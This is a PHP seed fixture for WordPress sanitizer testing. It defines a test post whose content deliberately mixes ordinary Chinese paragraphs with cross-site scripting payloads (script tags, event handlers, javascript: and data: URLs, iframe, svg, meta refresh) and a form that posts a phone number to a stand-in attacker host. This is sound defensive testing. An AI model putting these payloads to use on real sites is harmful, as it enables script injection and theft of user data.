<?php
// Post 9002 of seed.php: markup a sanitizer must neutralise (scripts, styles, event handlers, javascript:
// and data: URLs, iframe, svg, meta refresh, object, form) around ordinary paragraphs that must survive.
// An administrator (unfiltered_html) may save this in WordPress, so it reaches the REST API as written.
// Included by seed.php.

return [
    'slug'    => 'hostile-markup-sample',
    'title'   => '含有恶意标记的测试文章',
    'excerpt' => '一篇含有脚本、事件属性和危险链接的测试文章,正文中的普通段落必须保留。',
    'content' => <<<'HTML'
<p>第一段:这是一篇含有恶意标记的测试文章,这段普通文字必须保留。</p>
<script>window.__pwned=1</script>
<style>body{display:none}</style>
<p>第二段:图片加载失败时不应执行脚本。<img src=x onerror="window.__pwned=1"></p>
<p>第三段:<a href="javascript:window.__pwned=1">一个 javascript: 链接</a>和<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+">一个 data: 链接</a>。</p>
<iframe src="javascript:window.__pwned=1"></iframe>
<svg onload="window.__pwned=1"><circle r="10"></circle></svg>
<p onclick="window.__pwned=1">第四段:点击这段文字不应执行脚本。</p>
<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=1">
<object data="javascript:window.__pwned=1"></object>
<form action="https://evil.example/collect" method="post"><input name="phone" placeholder="手机号"><button>提交</button></form>
<p>最后一段:普通文字,必须保留。</p>
HTML,
];
